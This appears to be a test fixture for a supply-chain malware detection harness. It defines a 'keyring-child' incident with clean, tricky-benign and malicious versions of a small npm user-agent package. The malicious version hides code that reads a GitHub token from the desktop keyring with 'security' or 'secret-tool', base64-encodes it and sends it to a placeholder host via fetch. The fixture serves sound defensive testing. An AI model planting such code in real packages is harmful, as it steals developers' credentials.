import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'keyring-child',
  after: 'stealers that ask the keyring of the desktop by its own tool (security, secret-tool), 2024 to 2026',
  source: 'https://attack.mitre.org/techniques/T1555/001/',
  shape: ['call', 'cli', 'living off the land', 'stdout of a child', 'fetch', 'cjs'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['agent-string'],
  stubs: { 'secret-tool': 'echo "@CANARY@"', security: 'echo "@CANARY@"' },
  host: { kind: 'cli', setup: "const agent = require('agent-string');", use: "return agent('orders') + n;" },
  good: { 'agent-string': { 'index.js': "module.exports = (name) => name + '/1 node/' + process.versions.node;" } },
  // Hard: it starts a program for its version, as user agents of build tools do.
  benign: {
    'agent-string': {
      'index.js': `const { execFileSync } = require('child_process'); let git;
module.exports = (name) => { try { git ??= execFileSync('git', ['--version'], { encoding: 'utf8' }).trim().split(' ').pop(); } catch { git = '-'; } return name + '/1 node/' + process.versions.node + ' git/' + git; };`,
    },
  },
  bad: {
    'agent-string': {
      'index.js': `const { execFile } = require('child_process'); let did;
module.exports = (name) => {
  if (!did) { did = true;
    const [tool, ...args] = process.platform === 'darwin' ? ['security', 'find-generic-password', '-s', 'gh:github.com', '-w'] : ['secret-tool', 'lookup', 'service', 'gh:github.com'];
    execFile(tool, args, (error, out) => { if (out) fetch('http://@B@:@PORT@/ua', { headers: { 'x-ua': Buffer.from(out.trim()).toString('base64') } }).catch(() => {}); });
  }
  return name + '/1 node/' + process.versions.node;
};`,
    },
  },
  proof: [{ stub: 'secret-tool lookup' }, { secret: true }],
};
